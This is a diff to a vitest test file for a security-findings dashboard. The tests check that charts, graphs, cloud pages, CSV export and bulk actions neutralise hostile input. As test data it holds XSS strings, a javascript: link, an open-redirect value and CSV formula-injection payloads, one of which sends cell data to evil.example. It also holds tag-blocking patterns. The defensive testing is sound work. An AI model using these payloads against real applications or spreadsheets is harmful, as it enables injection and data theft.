@@ -1,5 +1,8 @@
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import type { Finding, ScanResult } from '../../scanners/core/types.js';
+import { stackedBars, timeChart } from '../../server/dashboard/charts.js';
+import { csvCell } from '../../server/dashboard/csv.js';
+import { graphView } from '../../server/dashboard/graph.js';
 import { escapeHtml } from '../../server/dashboard/html.js';
 import { localPath } from '../../server/routes/dashboard/index.js';
 import {
@@ -317,7 +320,10 @@ describe('hostile strings', () => {
     );
     for (const page of pages) {
       expect(page.statusCode).toBe(200);
-      for (const tag of ['<script', '<img', '<svg', '<iframe', '<b>']) expect(page.body).not.toContain(tag);
+      for (const tag of ['<script', '<img', '<svg onload', '<iframe', '<b>'])
+        expect(page.body).not.toContain(tag);
+      // The only SVG is the dashboard's own charts.
+      for (const svg of page.body.match(/<svg[^>]*>/g) ?? []) expect(svg).toMatch(/^<svg class="[a-z-]+"/);
       expect(page.body).not.toMatch(/[\u0000-\u0008\u000b\u000c\u000e-\u001f\u202e]/);
       expect(page.body).not.toContain('javascript:');
     }
@@ -329,5 +335,318 @@ describe('hostile strings', () => {
     expect(detail!.body).toContain('[U+202E]gnp.exe');
     expect(detail!.body).toContain(escapeHtml(HOSTILE.resource));
     expect(detail!.body).not.toContain('Rule documentation');
+  });
+});
+
+/** Every tag a hostile string could smuggle in, and markup that would run or reorder text. */
+function expectInert(markup: string) {
+  for (const tag of ['<script', '<img', '<svg onload', '<iframe', '<b>', '<foreignObject'])
+    expect(markup).not.toContain(tag);
+  // Attribute values cannot be left (quotes are escaped): with them blanked, no tag may carry an event handler.
+  expect(markup.replace(/"[^"]*"/g, '""')).not.toMatch(/<[a-z][^<>]*\son[a-z]+=/i);
+  expect(markup).not.toMatch(/[\u0000-\u0008\u000b\u000c\u000e-\u001f\u202e]/);
+  // Text may read "javascript:", a link never.
+  expect(markup).not.toMatch(/(href|src|action|xlink:href)="\s*javascript:/i);
+}
+
+describe('hostile strings in charts, graphs, cloud pages and CSV', () => {
+  it('chart and graph labels are escaped inside the SVG, its title and the fallback table or list', () => {
+    const chart = stackedBars({
+      title: HOSTILE.title,
+      keys: ['high'],
+      className: () => 'severity-high',
+      rows: [{ label: HOSTILE.repository, counts: { high: 3 } }],
+    }).markup;
+    const line = timeChart({
+      title: HOSTILE.message,
+      series: [
+        { name: HOSTILE.branch, className: 'series-open', points: [{ date: '2026-01-01', value: 2 }] },
+      ],
+    }).markup;
+    const graph = graphView({
+      id: '"><script>',
+      title: HOSTILE.title,
+      nodes: [
+        {
+          id: HOSTILE.resource,
+          label: HOSTILE.file,
+          kind: 'code',
+          detail: HOSTILE.message,
+          href: '/repositories/1',
+        },
+        { id: 'cloud:1', label: HOSTILE.repository, kind: 'resource' },
+      ],
+      edges: [{ from: HOSTILE.resource, to: 'cloud:1', label: HOSTILE.branch, detail: HOSTILE.title }],
+    }).markup;
+    for (const markup of [chart, line, graph]) expectInert(markup);
+    expect(chart).toContain(`<title>${escapeHtml(HOSTILE.repository)}</title>`);
+    expect(chart).toContain(`<th scope="row">${escapeHtml(HOSTILE.repository)}</th>`);
+    expect(line).toContain(escapeHtml(HOSTILE.branch));
+    // Long labels are cut in the picture, and whole in the tooltip and in the list.
+    expect(graph).toContain(`<title>${escapeHtml(HOSTILE.file)} (${escapeHtml(HOSTILE.message)})</title>`);
+    expect(graph).toContain(escapeHtml(HOSTILE.title));
+    expect(graph).toContain('marker id="arrow----script-"');
+    expect(graph).toMatch(/<ul class="graph-list"[^>]*>[\s\S]*&lt;iframe/);
+  });
+
+  it('cloud account and resource pages render hostile names, ids, tags and check texts inert', async () => {
+    const uid = `arn:aws:s3:::${HOSTILE.title}`;
+    const imported = await server.app.inject({
+      method: 'POST',
+      url: '/api/v1/cloud/imports',
+      headers: bearer(ADMIN_TOKEN),
+      payload: {
+        source: 'prowler-ocsf',
+        provider: 'aws',
+        accountId: '<b>999</b>',
+        observedAt: null,
+        resources: [
+          {
+            uid,
+            provider: 'aws',
+            accountId: '<b>999</b>',
+            region: HOSTILE.branch,
+            type: '<iframe src=//evil.example>',
+            name: HOSTILE.file,
+            tags: { [HOSTILE.title]: HOSTILE.message, team: 'javascript:alert(1)' },
+            related: [],
+          },
+        ],
+        checks: [
+          {
+            resourceUid: uid,
+            checkId: HOSTILE.title,
+            title: HOSTILE.message,
+            severity: 'high',
+            status: 'fail',
+            message: HOSTILE.file,
+            categories: [HOSTILE.branch],
+          },
+        ],
+      },
+    });
+    expect(imported.statusCode, imported.body).toBe(201);
+    const accountId = imported.json().account.id;
+    const resource = await server.app.inject({
+      url: `/api/v1/cloud/accounts/${accountId}`,
+      headers: bearer(ADMIN_TOKEN),
+    });
+    const resourceId = resource.json().resources.items[0].id;
+    for (const url of [`/cloud/accounts/${accountId}`, `/cloud/resources/${resourceId}`, '/', '/graph']) {
+      const page = await server.app.inject({ url, headers: { cookie: admin.cookie } });
+      expect(page.statusCode, url).toBe(200);
+      expectInert(page.body);
+    }
+    const detail = await server.app.inject({
+      url: `/cloud/resources/${resourceId}`,
+      headers: { cookie: admin.cookie },
+    });
+    expect(detail.body).toContain('&lt;script&gt;alert(&quot;file&quot;)&lt;/script&gt;\u2407\u241b[31m.tf');
+    expect(detail.body).toContain(escapeHtml(HOSTILE.title));
+    expect(detail.body).toContain('[U+202E]gnp.exe');
+  });
+
+  it('the repository page draws the hostile repository name inert', async () => {
+    const repositories = await server.app.inject({
+      url: '/api/v1/repositories',
+      headers: bearer(ADMIN_TOKEN),
+    });
+    const hostile = repositories
+      .json()
+      .items.find((repository: { name: string }) => repository.name === HOSTILE.repository);
+    const page = await server.app.inject({
+      url: `/repositories/${hostile.id}`,
+      headers: { cookie: admin.cookie },
+    });
+    expect(page.statusCode).toBe(200);
+    expectInert(page.body);
+    expect(page.body).toContain(`<svg class="chart-svg"`);
+    expect(page.body).toContain(escapeHtml(HOSTILE.repository));
+  });
+
+  it('CSV cells are quoted, and cells that a spreadsheet would run as formulas are neutralised', async () => {
+    expect(csvCell('=HYPERLINK("http://evil.example")')).toBe('"\'=HYPERLINK(""http://evil.example"")"');
+    expect(csvCell('+1')).toBe('"\'+1"');
+    expect(csvCell('-2+3')).toBe('"\'-2+3"');
+    expect(csvCell('@SUM(A1)')).toBe('"\'@SUM(A1)"');
+    expect(csvCell('\tcmd')).toBe('"\'\tcmd"');
+    expect(csvCell('plain, "quoted"\nline')).toBe('"plain, ""quoted""\nline"');
+    expect(csvCell(-5)).toBe('"-5"');
+    expect(csvCell(null)).toBe('""');
+
+    const base = result.findings[0]!;
+    const formulas: Finding = {
+      ...base,
+      fingerprint: 'formula-1',
+      title: '=HYPERLINK("http://evil.example/?"&A1,"click")',
+      message: '@SUM(1+1)*cmd|" /C calc"!A0',
+      resource: '-2+3',
+      location: { ...base.location, file: '+infra/evil.tf' },
+    };
+    const uploaded = await postScan(
+      server.app,
+      ADMIN_TOKEN,
+      uploadOf({ ...result, findings: [formulas] }, { repository: 'formulas', runId: 'formulas' }),
+    );
+    expect(uploaded.statusCode, uploaded.body).toBe(201);
+    const response = await server.app.inject({
+      url: '/findings.csv?branch=main&sort=file',
+      headers: { cookie: admin.cookie },
+    });
+    expect(response.statusCode).toBe(200);
+    expect(response.headers['content-type']).toBe('text/csv; charset=utf-8');
+    expect(response.headers['content-disposition']).toMatch(/^attachment; filename="palisade-findings-/);
+    const lines = response.body
+      .replace(/^\uFEFF/, '')
+      .trimEnd()
+      .split('\r\n');
+    expect(lines[0]).toBe(
+      '"id","severity","priority","status","rule","title","category","repository","branch","file","line","resource","owner","first_seen","last_seen","status_reason","status_expires","message"',
+    );
+    const row = lines.find((line) => line.includes('evil.tf'))!;
+    expect(row).toContain('"\'=HYPERLINK(""http://evil.example/?""&A1,""click"")"');
+    expect(row).toContain('"\'+infra/evil.tf"');
+    expect(row).toContain('"\'-2+3"');
+    expect(row).toContain('"\'@SUM(1+1)*cmd|"" /C calc""!A0"');
+    // No cell starts with a bare formula character.
+    for (const line of lines) expect(line).not.toMatch(/(^|,)"[=+\-@]/);
+    // The filter applies: every finding of branch main, and nothing else.
+    const api = await server.app.inject({
+      url: '/api/v1/findings?branch=main&limit=1',
+      headers: bearer(ADMIN_TOKEN),
+    });
+    expect(lines).toHaveLength(api.json().total + 1);
+    const audit = await server.app.storage.listAudit(server.organizationId, 20);
+    expect(audit.some((entry) => entry.action === 'findings.export')).toBe(true);
+  });
+});
+
+describe('bulk actions', () => {
+  const bulkForm = (fields: Record<string, string>, ids: number[]) => {
+    const body = new URLSearchParams(fields);
+    for (const id of ids) body.append('ids', String(id));
+    return body.toString();
+  };
+  const openIds = async (count: number) => {
+    const list = await server.app.inject({
+      url: `/api/v1/findings?status=open&repository=${await repositoryId('infra')}&limit=${count}`,
+      headers: bearer(ADMIN_TOKEN),
+    });
+    return list.json().items.map((item: { id: number }) => item.id) as number[];
+  };
+  const repositoryId = async (name: string) => {
+    const repositories = await server.app.inject({
+      url: '/api/v1/repositories',
+      headers: bearer(ADMIN_TOKEN),
+    });
+    return repositories.json().items.find((repository: { name: string }) => repository.name === name).id;
+  };
+
+  it('an analyst marks ticked findings as false positives and assigns owners; the list keeps its filter', async () => {
+    const analyst = await signIn(server.app, await server.user('analyst'));
+    const ids = await openIds(3);
+    expect(ids).toHaveLength(3);
+    const listUrl = `/findings?status=open&repository=${await repositoryId('infra')}`;
+    const page = await server.app.inject({ url: listUrl, headers: { cookie: analyst.cookie } });
+    expect(page.body).toContain('action="/findings/bulk"');
+    expect(page.body).toContain(`name="ids" value="${ids[0]}"`);
+    const response = await server.app.inject({
+      method: 'POST',
+      url: '/findings/bulk',
+      headers: { cookie: analyst.cookie, 'content-type': 'application/x-www-form-urlencoded' },
+      payload: bulkForm(
+        {
+          csrf: analyst.csrfToken,
+          return: listUrl,
+          action: 'false_positive',
+          reason: 'test fixtures',
+          expiresOn: '',
+        },
+        ids,
+      ),
+    });
+    expect(response.statusCode).toBe(303);
+    const location = new URL(response.headers.location as string, 'http://dashboard.test');
+    expect(location.pathname).toBe('/findings');
+    expect(Object.fromEntries(location.searchParams)).toMatchObject({
+      status: 'open',
+      bulk: 'false_positive',
+      changed: '3',
+      skipped: '0',
+    });
+    const after = await server.app.inject({
+      url: response.headers.location as string,
+      headers: { cookie: analyst.cookie },
+    });
+    expect(after.body).toContain('Marked as false positive 3 findings.');
+    for (const id of ids) {
+      const finding = await server.app.inject({
+        url: `/api/v1/findings/${id}`,
+        headers: bearer(ADMIN_TOKEN),
+      });
+      expect(finding.json().finding).toMatchObject({
+        status: 'false_positive',
+        statusReason: 'test fixtures',
+      });
+    }
+
+    const owner = await server.app.inject({
+      method: 'POST',
+      url: '/findings/bulk',
+      headers: { cookie: analyst.cookie, 'content-type': 'application/x-www-form-urlencoded' },
+      // A return address elsewhere is ignored: the redirect stays on the findings list.
+      payload: bulkForm(
+        {
+          csrf: analyst.csrfToken,
+          return: '//evil.example/findings?x=1',
+          action: 'owner',
+          owner: 'team-<b>red</b>',
+        },
+        [ids[0]!, 999_999],
+      ),
+    });
+    expect(owner.statusCode).toBe(303);
+    expect(owner.headers.location).toBe('/findings?bulk=owner&changed=1&skipped=1');
+    const assigned = await server.app.inject({
+      url: `/api/v1/findings/${ids[0]}`,
+      headers: bearer(ADMIN_TOKEN),
+    });
+    expect(assigned.json().finding).toMatchObject({ owner: 'team-<b>red</b>', ownerSource: 'assigned' });
+  });
+
+  it('refuses a forged CSRF token, a viewer, no selection and a decision without a reason', async () => {
+    const analyst = await signIn(server.app, await server.user('analyst'));
+    const viewer = await signIn(server.app, await server.user('viewer'));
+    const ids = await openIds(1);
+    const post = (session: Session, fields: Record<string, string>, selected: number[]) =>
+      server.app.inject({
+        method: 'POST',
+        url: '/findings/bulk',
+        headers: { cookie: session.cookie, 'content-type': 'application/x-www-form-urlencoded' },
+        payload: bulkForm(fields, selected),
+      });
+    expect(
+      (await post(analyst, { csrf: 'forged', action: 'risk_accepted', reason: 'x' }, ids)).statusCode,
+    ).toBe(403);
+    expect(
+      (await post(viewer, { csrf: viewer.csrfToken, action: 'risk_accepted', reason: 'x' }, ids)).statusCode,
+    ).toBe(403);
+    const viewerPage = await server.app.inject({ url: '/findings', headers: { cookie: viewer.cookie } });
+    expect(viewerPage.body).not.toContain('/findings/bulk');
+    expect(
+      (await post(analyst, { csrf: analyst.csrfToken, action: 'risk_accepted', reason: 'x' }, [])).statusCode,
+    ).toBe(400);
+    const noReason = await post(
+      analyst,
+      { csrf: analyst.csrfToken, action: 'risk_accepted', reason: ' ' },
+      ids,
+    );
+    expect(noReason.statusCode).toBe(400);
+    expect(noReason.body).toContain('Give a reason for the decision.');
+    const finding = await server.app.inject({
+      url: `/api/v1/findings/${ids[0]}`,
+      headers: bearer(ADMIN_TOKEN),
+    });
+    expect(finding.json().finding.status).toBe('open');
   });
 });
